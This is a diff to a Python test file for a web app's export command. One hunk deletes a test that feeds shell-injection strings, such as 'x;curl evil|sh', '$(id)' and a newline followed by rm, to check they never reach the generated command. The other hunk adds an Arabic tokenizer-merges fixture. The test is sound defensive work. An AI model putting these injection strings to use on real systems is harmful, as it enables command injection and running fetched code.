@@ -371,32 +371,6 @@ def test_some_damaged_exports_leave_no_page_blank_and_no_figure_waiting(browser)
 
 # Commands ---------------------------------------------------------------------------------------
 
-NASTY = [
-    "x;curl evil|sh",
-    "x && y",
-    "$(id)",
-    "`id`",
-    "a b",
-    "x\nrm",
-    "'",
-    '"',
-    "%PATH%",
-    "!!",
-    "x\u202ey",
-    "",
-    "--out=/etc x",
-    "a/b",
-    "../x",
-]
-
-
-@pytest.mark.parametrize("name", NASTY)
-def test_a_name_that_is_no_word_is_in_no_command(judge, name):
-    said = judge.page.evaluate(
-        "async (name) => (await import('/app/command.js')).exportCommand(name)", name
-    )
-    assert said == "python export_for_web.py"
-
 
 @pytest.mark.parametrize(
     "folder, words",
@@ -522,6 +496,9 @@ def arabic(tmp_path_factory):
     def translate(manifest):
         end, *symbols = manifest["tokenizer"]["vocab"]
         manifest["tokenizer"]["vocab"] = [end, *[one.translate(ARABIC) for one in symbols]]
+        manifest["tokenizer"]["merges"] = [
+            [one.translate(ARABIC) for one in pair] for pair in manifest["tokenizer"]["merges"]
+        ]
         manifest["prompts"] = [one.translate(ARABIC) for one in manifest["prompts"]]
 
     change(run, "manifest.json", translate)
